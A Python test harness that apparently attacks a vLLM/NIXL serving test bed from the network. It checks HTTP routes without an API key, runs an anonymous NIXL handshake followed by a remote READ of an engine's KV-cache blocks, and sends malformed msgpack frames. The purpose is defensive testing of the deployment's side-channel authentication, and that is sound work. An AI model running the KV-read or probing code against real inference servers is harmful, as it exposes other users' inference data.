"""What an attacker on the cluster network runs against an engine of the bed (tests/netbed.py), from a host that is
neither gateway nor engine; prints one JSON object of what it got.

    ip netns exec HOST python -m tests.netbed_attacker http URL
    ip netns exec HOST python -m tests.netbed_attacker read HOST PORT      # anonymous NIXL handshake, then a KV read
    ip netns exec HOST python -m tests.netbed_attacker probe HOST PORT     # which peer the side channel answers
    ip netns exec HOST python -m tests.netbed_attacker malformed HOST PORT # malformed frames, anonymous and keyed

``read`` does what vLLM's own decode worker does with a handshake (base_worker.py, ``_nixl_handshake`` and
``add_remote_agent``): decode the NixlHandshakePayload and its NixlAgentMetadata, add the remote NIXL agent, and
READ registered KV blocks over UCX's tcp transport (UCX_TLS=tcp, as between machines). ``probe`` and ``malformed``
also act as a peer holding the engine key (ENGINE_KEY_ENV), as a buggy or compromised engine of the deployment would.
"""

from __future__ import annotations

import json
import os
import sys
import time
from typing import Any

import httpx
import msgspec
import numpy as np
import zmq
from zmq.utils.monitor import recv_monitor_message

from pdserve.engine_config import DEMO_MODEL_NAME
from pdserve_vllm import ENGINE_KEY_ENV

GET_META_MSG = b"get_meta_msg"  # vLLM's query (nixl/metadata.py)
HANDSHAKE_S = 10.0  # vLLM's worker waits 5 s for a reply (base_worker.py); a loaded 2-core bed gets twice that
READ_S = 60.0
READ_BLOCKS = 16
# Routes of vLLM 0.32's server inside and outside vLLM's own --api-key guard (authenticate.py, GUARDED_PREFIX).
ROUTES = [("POST", "/v1/completions", {"model": DEMO_MODEL_NAME, "prompt": "hi", "max_tokens": 1}),
          ("GET", "/v1/models", None), ("POST", "/invocations", {"model": DEMO_MODEL_NAME, "prompt": "hi", "max_tokens": 1}),
          ("POST", "/tokenize", {"model": DEMO_MODEL_NAME, "prompt": "hi"}),
          ("GET", "/metrics", None), ("GET", "/version", None), ("GET", "/ping", None), ("GET", "/load", None)]
MALFORMED = [b"\xc1", msgspec.msgpack.encode(7), msgspec.msgpack.encode([GET_META_MSG, [0], 0])]


def http(url: str) -> dict[str, Any]:
    """Each route's status without a key, and GET /health's."""
    statuses = {f"{method} {path}": httpx.request(method, url + path, json=body, timeout=30).status_code
                for method, path, body in ROUTES}
    return {"routes": statuses, "health": httpx.get(url + "/health", timeout=30).status_code}


def handshake(path: str, *, keyed: bool) -> tuple[str, list[bytes] | None]:
    """(the handshake's outcome, the listener's reply or None): vLLM's worker's query, with no key or with the key."""
    ctx = zmq.Context()
    try:
        sock = ctx.socket(zmq.REQ)
        if keyed:
            _key(sock)
        monitor = sock.get_monitor_socket()  # before the connection, so its handshake's event is not missed
        sock.connect(path)
        sock.send(msgspec.msgpack.encode((GET_META_MSG, 0, 0)))
        outcome = _handshake_outcome(monitor, deadline_s=time.monotonic() + HANDSHAKE_S)
        reply = sock.recv_multipart() if outcome == "succeeded" and sock.poll(int(HANDSHAKE_S * 1000)) else None
        return outcome, reply
    finally:
        ctx.destroy(linger=0)


def _key(sock: zmq.Socket[Any]) -> None:
    """The deployment's client keys, as pdserve's engines derive them (pdserve_vllm/side_channel.py)."""
    from pdserve_vllm.side_channel import curve_keys

    keys = curve_keys(os.environ[ENGINE_KEY_ENV])
    sock.curve_serverkey, sock.curve_publickey, sock.curve_secretkey = (
        keys.server_public, keys.client_public, keys.client_secret)


def _handshake_outcome(monitor: zmq.Socket[Any], *, deadline_s: float) -> str:
    failed = {zmq.EVENT_HANDSHAKE_FAILED_NO_DETAIL, zmq.EVENT_HANDSHAKE_FAILED_PROTOCOL,
              zmq.EVENT_HANDSHAKE_FAILED_AUTH}
    while (left_s := deadline_s - time.monotonic()) > 0:
        if not monitor.poll(int(left_s * 1000)):
            break
        event = recv_monitor_message(monitor)["event"]
        if event == zmq.EVENT_HANDSHAKE_SUCCEEDED:
            return "succeeded"
        if event in failed:
            return "failed"
    return "none"


def read(host: str, port: int) -> dict[str, Any]:
    """An anonymous handshake; with its reply, a NIXL READ of the engine's first KV blocks into this process."""
    outcome, reply = handshake(f"tcp://{host}:{port}", keyed=False)
    found: dict[str, Any] = {"handshake": outcome, "payload": reply is not None}
    if reply is not None:
        found.update(_read_kv(reply[0]))
    return found


def _read_kv(handshake_bytes: bytes) -> dict[str, Any]:
    from nixl._api import nixl_agent, nixl_agent_config
    from vllm.distributed.kv_transfer.kv_connector.v1.nixl.metadata import NixlAgentMetadata, NixlHandshakePayload

    payload = msgspec.msgpack.Decoder(NixlHandshakePayload).decode(handshake_bytes)
    meta = msgspec.msgpack.Decoder(NixlAgentMetadata).decode(payload.agent_metadata_bytes)
    agent = nixl_agent("netbed-attacker", nixl_agent_config(backends=["UCX"]))
    remote = agent.add_remote_agent(meta.agent_metadata)
    blocks, block_len = min(READ_BLOCKS, meta.num_blocks), meta.block_lens[0]
    stride = meta.block_strides[0] if meta.block_strides else block_len
    local = np.zeros(blocks * block_len, dtype=np.uint8)
    agent.register_memory([(local.ctypes.data, local.nbytes, 0, "")], "DRAM")
    local_descs = agent.get_xfer_descs([(local.ctypes.data + b * block_len, block_len, 0) for b in range(blocks)],
                                       "DRAM")
    remote_descs = agent.get_xfer_descs([(meta.kv_caches_base_addr[0] + b * stride, block_len, meta.device_id)
                                         for b in range(blocks)], "DRAM")
    transfer = agent.initialize_xfer("READ", local_descs, remote_descs, remote)
    state, deadline_s = agent.transfer(transfer), time.monotonic() + READ_S
    while state == "PROC" and time.monotonic() < deadline_s:
        state = agent.check_xfer_state(transfer)
    return {"engine_id": meta.engine_id, "read_state": state, "read_bytes": int(local.nbytes),
            "nonzero_bytes": int(np.count_nonzero(local))}


def probe(host: str, port: int) -> dict[str, Any]:
    """Which peers get a handshake reply: one with no key, one with the deployment's key."""
    path = f"tcp://{host}:{port}"
    return {peer: handshake(path, keyed=peer == "keyed")[1] is not None for peer in ("anonymous", "keyed")}


def malformed(host: str, port: int) -> dict[str, Any]:
    """MALFORMED frames, each on a connection of its own, from a peer with no key and from one with the key."""
    sent = 0
    for keyed in (False, True):
        for frame in MALFORMED:
            ctx = zmq.Context()
            sock = ctx.socket(zmq.DEALER)  # vLLM's ROUTER takes [identity, b"", msg] from a REQ; a DEALER sends frames
            if keyed:
                _key(sock)
            monitor = sock.get_monitor_socket()
            sock.connect(f"tcp://{host}:{port}")
            sock.send_multipart([b"", frame])
            sent += _handshake_outcome(monitor, deadline_s=time.monotonic() + HANDSHAKE_S) == "succeeded"
            time.sleep(0.2)  # the frame leaves before the socket closes
            ctx.destroy(linger=1000)
    return {"delivered": sent}


COMMANDS = {"read": read, "probe": probe, "malformed": malformed}

if __name__ == "__main__":
    command, *args = sys.argv[1:]
    result = http(args[0]) if command == "http" else COMMANDS[command](args[0], int(args[1]))
    print(json.dumps(result), flush=True)
